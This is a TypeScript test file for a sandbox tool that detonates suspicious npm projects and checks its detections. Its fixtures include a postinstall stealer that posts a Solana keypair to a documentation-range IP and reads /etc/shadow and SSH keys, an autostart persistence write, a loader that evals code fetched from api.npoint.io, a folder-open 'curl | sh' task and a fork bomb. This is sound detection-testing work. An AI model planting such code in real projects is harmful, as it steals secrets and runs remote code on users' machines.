import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { detonate } from '../../src/api/detonate.js';
import type { Report } from '../../src/core/report.js';
import { jailAvailable } from '../../src/sandbox/jail.js';

// Fixtures written for the tests (never real malware): every address is in the documentation range 203.0.113.0/24.
const avail = jailAvailable();
const skip = avail.ok ? false : `the jail cannot run here: ${avail.why}`;
const marker = `lurescan-host-marker-${process.pid}`;

function tree(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'lurescan-det-'));
  for (const [p, c] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, p)), { recursive: true });
    writeFileSync(join(dir, p), c);
  }
  return dir;
}

const STEALER = `const fs = require('fs'), os = require('os'), http = require('http');
const key = fs.readFileSync(os.homedir() + '/.config/solana/id.json', 'utf8');
const req = http.request({ host: '203.0.113.9', port: 1224, path: '/keys', method: 'POST' }, (res) => res.resume());
req.on('error', () => {});
req.end(key);
try { fs.readFileSync('/etc/shadow'); } catch {}
try { fs.readFileSync('/root/.ssh/id_rsa'); } catch {}
fs.mkdirSync(os.homedir() + '/.config/autostart', { recursive: true });
fs.writeFileSync(os.homedir() + '/.config/autostart/update.desktop', '[Desktop Entry]\\nExec=node ~/.npl\\n');
fs.writeFileSync('/tmp/${marker}', 'escaped?');
setTimeout(() => {}, 300);
`;
const LOADER = `const https = require('http');
require('dns').lookup('api.npoint.io', () => {
  const r = https.get('http://api.npoint.io/8d1f2c', (res) => { let b = ''; res.on('data', (d) => (b += d)); res.on('end', () => { try { eval(b); } catch {} }); });
  r.on('error', () => {});
});
`;

describe('lurescan detonate (bubblewrap jail)', { skip }, () => {
  const dirs: string[] = [];
  let bad: Report;
  before(async () => {
    const lure = tree({
      'package.json': JSON.stringify({ name: 'task', version: '1.0.0', scripts: { postinstall: 'node scripts/setup.js', start: 'node server.js' } }, null, 2),
      'scripts/setup.js': STEALER,
      'server.js': LOADER,
      '.vscode/tasks.json': JSON.stringify({ version: '2.0.0', tasks: [{ label: 'env', type: 'shell', command: "curl -s 'http://203.0.113.7:1244/settings/linux?flag=8' | sh", runOptions: { runOn: 'folderOpen' }, presentation: { reveal: 'never' } }] }, null, 2),
    });
    dirs.push(lure);
    bad = await detonate(lure, { offline: true, timeoutMs: 30_000 });
  });
  after(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

  const has = (rule: string, re: RegExp) => bad.findings.some((f) => f.ruleId === rule && re.test(`${f.message} ${f.evidence}`));

  it('(a) a canary wallet read and posted to a raw IP on port 1224', () => {
    assert.equal(bad.verdict, 'malicious');
    assert.ok(has('canary-secret-read', /Solana keypair/), JSON.stringify(bad.findings.map((f) => f.message)));
    assert.ok(has('canary-exfiltration', /Solana keypair.*203\.0\.113\.9:1224 POST \/keys/));
    assert.ok(bad.iocs.some((i) => i.type === 'ip' && i.value === '203.0.113.9'));
  });
  it('(b) curl | sh from a folder-open task', () => {
    assert.ok(has('shell-pipe-observed', /Piped a download into a shell/));
    assert.ok(has('outbound-network', /GET \/settings\/linux\?flag=8/));
    const f = bad.findings.find((x) => x.ruleId === 'shell-pipe-observed')!;
    assert.equal(f.file, '.vscode/tasks.json');
  });
  it('(c) an autostart entry written', () => {
    assert.ok(has('persistence-observed', /XDG autostart entry: ~\/\.config\/autostart\/update\.desktop/));
    assert.ok(!existsSync(join(homedir(), '.config/autostart/update.desktop')), 'the autostart entry must not reach the host');
  });
  it('(d) host files outside the jail are probed but unreachable', () => {
    assert.ok(has('jail-escape-or-host-probe', /\/etc\/shadow/));
    assert.ok(has('jail-escape-or-host-probe', /\/root\/\.ssh\/id_rsa/));
    assert.ok(!existsSync(`/tmp/${marker}`), 'a write to /tmp inside the jail must not reach the host');
  });
  it('(f) a payload fetched from a dead drop and evaluated: the lookup and the request are shown', () => {
    assert.ok(has('outbound-network', /Looked up api\.npoint\.io/));
    assert.ok(has('outbound-network', /api\.npoint\.io.*GET \/8d1f2c/), JSON.stringify(bad.findings.map((f) => f.message)));
  });
  it('reports what ran, with phases', () => {
    assert.ok(bad.detonation?.ran);
    assert.ok(bad.detonation!.actions.some((a) => a.command === 'node scripts/setup.js' && a.file === 'package.json'));
    assert.ok(bad.detonation!.phases.runMs! > 0);
  });

  it('(e) a fork bomb and an endless loop end at the limit', async () => {
    const dir = tree({ 'package.json': JSON.stringify({ name: 'x', version: '1.0.0', scripts: { preinstall: 'bomb() { bomb | bomb & }; bomb', postinstall: 'node -e "for(;;){}"' } }) });
    dirs.push(dir);
    const started = Date.now();
    const r = await detonate(dir, { offline: true, timeoutMs: 8_000 });
    assert.ok(Date.now() - started < 40_000, 'the run must end near its limit');
    assert.ok(r.detonation!.actions.some((a) => a.timedOut || a.skipped), JSON.stringify(r.detonation!.actions));
  });

  it('(g) a project that does nothing bad gets no behaviour findings', async () => {
    const dir = tree({ 'package.json': JSON.stringify({ name: 'ok', version: '1.0.0', scripts: { postinstall: 'node -e "console.log(1+1)"', start: 'node index.js' } }), 'index.js': 'const fs = require("fs"); fs.writeFileSync("out.txt", String(6*7));\n' });
    dirs.push(dir);
    const r = await detonate(dir, { offline: true, timeoutMs: 15_000 });
    assert.deepEqual(r.findings.map((f) => `${f.ruleId}: ${f.message}`), []);
    assert.equal(r.verdict, 'clean');
    assert.ok(r.detonation!.ran);
    assert.match(r.summary, /Nothing malicious was observed/);
  });
});
